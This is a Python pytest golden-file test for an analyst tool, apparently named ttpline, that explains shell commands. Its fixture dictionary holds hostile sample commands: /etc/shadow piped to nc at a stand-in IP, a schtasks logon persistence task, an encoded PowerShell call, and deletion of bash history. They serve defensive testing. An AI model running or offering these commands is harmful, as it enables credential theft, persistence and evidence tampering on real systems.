"""Five commands, explained word for word: what an analyst reads must change on purpose only.

``TTPLINE_WRITE_GOLDEN=1 pytest tests/explain/test_golden.py`` writes the files again; read the difference.
"""

import os
from pathlib import Path

import pytest
from tests.explain.shown_text import shown_text

from ttpline.commands.understand import Understander
from ttpline.explain.explain import explain
from ttpline.testing.fixed_classifier import FixedClassifier

GOLDEN = Path(__file__).with_name("golden")
WIDTH = 100
COMMANDS = {
    "pipeline": "cat /etc/shadow | nc 192.0.2.1 4444",
    "scheduled_task": r"schtasks /create /tn Updater /tr C:\Users\Public\a.exe /sc onlogon",
    "encoded": "powershell -nop -enc dwBoAG8AYQBtAGkA",
    "wrapped": "sudo sh -c 'cat notes.txt && rm ~/.bash_history'",
    "unknown": "frobnicate --all /srv/data",
}


@pytest.mark.parametrize("name", COMMANDS)
def test_the_explanation_is_what_it_was(name: str, fixed: FixedClassifier, small_knowledge: Understander) -> None:
    found = shown_text(explain(COMMANDS[name], fixed, understander=small_knowledge), width=WIDTH)
    if os.environ.get("TTPLINE_WRITE_GOLDEN"):
        (GOLDEN / f"{name}.txt").write_text(found, "utf-8")
    assert found == (GOLDEN / f"{name}.txt").read_text("utf-8")
